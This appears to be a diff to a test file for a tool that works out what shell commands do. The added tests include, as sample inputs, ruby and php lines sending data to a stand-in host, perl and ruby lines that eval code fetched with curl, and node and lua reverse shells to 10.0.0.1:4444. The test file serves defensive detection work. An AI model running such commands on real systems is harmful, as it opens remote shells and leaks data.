@@ -9,6 +9,10 @@ const PROGRAM = programOf(`
   command perl { flags { -e=word! } operands { args: rest? } execute -e as perl }
   command Rscript { flags { -e=word! } operands { args: rest? } execute -e as r }
   command python { flags { -c=word! } operands { args: rest? } execute -c as python }
+  command php { flags { -r=word! } operands { args: rest? } execute -r as php }
+  command ruby { flags { -e=word! } operands { args: rest? } execute -e as ruby }
+  command curl { flags { -s -o=path } operands { urls: url* } copy urls to stdout }
+  command lua { flags { -e=word! } operands { args: rest? } execute -e as lua }
 `);
 
 function effects(command: string): readonly string[] {
@@ -52,6 +56,28 @@ describe("code of another language that starts programs", () => {
     'BEGIN { if (1) /"/; system("rm x"); if (1) /"/ }',
     '$1 ~ /[/"]/ { system("rm x") } /"/',
   ])("awk '%s' deletes", (program) => expect(effects(`awk '${program}' f`)).toContain("delete /repo/app/x"));
+
+  it.each([
+    "php -r 'file_get_contents(\"https://h.example/?\" . urlencode($x));'",
+    'ruby -e \'require "open-uri"; open("https://h.example/#{x}")\'',
+  ])("%s talks to the host of an address that is known in part", (command) =>
+    expect(effects(command).join(" ")).toContain("fetch h.example"),
+  );
+
+  it.each(["perl -e 'eval `curl -s https://h.example/a`'", "ruby -e 'eval(`curl -s https://h.example/a`)'", "ruby -e 'eval `x`'"])(
+    "%s executes what a command prints",
+    (command) => expect(effects(command).filter((line) => line.startsWith("execute")).length).toBeGreaterThan(1),
+  );
+
+  it.each([
+    "node -e \"var n=require('net'),c=require('child_process');var s=new n.Socket();s.connect(4444,'10.0.0.1',()=>c.spawn('sh'))\"",
+    "node -e \"var net=require('net');net.connect(4444,'10.0.0.1').pipe(require('child_process').spawn('sh').stdin)\"",
+    "lua -e \"t=require('socket').tcp();t:connect('10.0.0.1','4444');os.execute('sh -i')\"",
+  ])("%s gives a shell over a connection", (command) => expect(effects(command).join(" ")).toContain("shell over a connection"));
+
+  it.each(["node -e \"require('net').connect(80,'localhost')\"", "lua -e \"os.execute('ls')\""])("%s gives none", (command) =>
+    expect(effects(command).join(" ")).not.toContain("shell over a connection"),
+  );
 
   it.each([
     "Rscript -e 'unknown(x, \"/b/c\")'",
